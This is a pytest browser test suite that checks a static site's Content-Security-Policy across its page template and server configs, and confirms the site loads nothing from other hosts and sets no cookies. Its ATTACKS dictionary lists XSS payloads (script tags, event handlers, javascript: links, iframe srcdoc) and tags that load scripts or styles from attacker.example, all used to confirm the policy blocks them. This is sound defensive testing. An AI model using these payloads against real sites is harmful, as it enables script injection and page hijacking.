"""The content policy: the same everywhere it is said; the site works under it, and what is injected does nothing."""

from __future__ import annotations

import re

import pytest
from conftest import PROJECT

pytestmark = pytest.mark.browser
PAGES = ["", "en/law/amendment/", "glossary/", "briefs/", "search/", "contribute/review/"]
ATTACKS = {
    "script": "<script>document.title='taken'</script>",
    "onerror": "<img src=x onerror=\"document.title='taken'\">",
    "onload": "<svg onload=\"document.title='taken'\"></svg>",
    "javascript link": "<a id='x' href=\"javascript:document.title='taken'\">x</a>",
    "foreign script": "<script src='https://attacker.example/x.js'></script>",
    "inline style": "<style>body{display:none}</style>",
    "base": "<base href='https://attacker.example/'>",
    "foreign picture": "<img src='https://attacker.example/x.png' alt=''>",
    "foreign style sheet": "<link rel='stylesheet' href='https://attacker.example/x.css'>",
    "style attribute": "<div style='position:fixed;inset:0;background:red' id='over'>x</div>",
    "object": "<object data='https://attacker.example/x'></object>",
    "picture of another place": "<svg><image href='https://attacker.example/x.png'/></svg>",
    "iframe": "<iframe srcdoc=\"<script>parent.document.title='taken'</script>\"></iframe>",
}


def policy():
    text = (PROJECT / "overrides/partials/policy.html").read_text("utf-8")
    return re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text)[1]


@pytest.mark.parametrize("name", ["nginx.conf", "Caddyfile", "_headers"])
def test_the_headers_say_what_the_pages_say(name):
    assert f"{policy()}; frame-ancestors 'none'" in (PROJECT / "deploy" / name).read_text("utf-8")
    assert "unsafe" not in policy()


def test_every_page_carries_it_before_anything_is_loaded():
    for file in (PROJECT / "site").rglob("*.html"):
        head = file.read_text("utf-8").split("</head>")[0]
        loads = [head.index(tag) for tag in ("<link", "<script") if tag in head]
        assert head.index("Content-Security-Policy") < min(loads)


def test_the_site_works_under_it(open_page, base):
    page = open_page("")
    said = []
    page.on("console", lambda message: said.append(message.text) if message.type == "error" else None)
    for path in PAGES:
        page.goto(base + path)
        page.wait_for_selector("html[data-ready]", state="attached")
    page.locator("[data-kb-search]").click()
    page.wait_for_selector(".kb-search[data-ready]")
    page.locator(".kb-search input").fill("ບຳນານ")
    page.wait_for_selector(".kb-search [role=option]")
    assert said == []
    assert [url for url in page.requests if not url.startswith(base)] == []


def kinds():
    """One page of every folder in both languages, and those that stand alone."""
    pages = {file.parent.relative_to(PROJECT / "site") for file in (PROJECT / "site").rglob("index.html")}
    by_folder = {page.parent.as_posix() + ("/x" if len(page.parts) > 1 else f"/{page}"): page for page in sorted(pages)}
    return sorted({*(f"{page.as_posix()}/".removeprefix("./") for page in by_folder.values()), "404.html"})


def test_no_kind_of_page_asks_another_host(open_page, base):
    """Every request of every kind of page, with its terms and its end, goes to this host; no cookie is set."""
    page = open_page("")
    said = []
    page.on("console", lambda message: said.append(message.text) if message.type == "error" else None)
    seen = kinds()
    assert len(seen) > 15
    for path in seen:
        page.goto(base + path)
        page.evaluate("scrollTo(0, document.body.scrollHeight)")
        term = page.locator("a.kb-term")
        if term.count():
            term.first.click()
    assert [url for url in page.requests if not url.startswith((base, "data:"))] == []
    assert page.context.cookies() == []
    assert said == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_injected_does_nothing(open_page, base, attack):
    page = open_page("about/")
    html = page.content().replace("<article", ATTACKS[attack] + "<article")
    answered = []
    page.on("requestfinished", lambda request: answered.append(request.url))
    blocked = []
    page.on("requestfailed", lambda request: blocked.append(request.url) if request.failure == "csp" else None)
    page.route(f"{base}attacked/", lambda route: route.fulfill(body=html, content_type="text/html; charset=utf-8"))
    page.goto(f"{base}attacked/")
    if attack == "javascript link":
        page.locator("#x").click()
    page.wait_for_load_state("load")
    assert page.url == f"{base}attacked/"
    if attack == "style attribute":
        assert page.locator("#over").evaluate("one => getComputedStyle(one).position") == "static"
    assert page.title() != "taken"
    assert page.locator("body").evaluate("one => getComputedStyle(one).display") != "none"
    assert page.evaluate("document.baseURI") == f"{base}attacked/"
    assert [url for url in answered if "attacker.example" in url] == []
    assert [url for url in page.requests if "attacker.example" in url and url not in blocked] == []
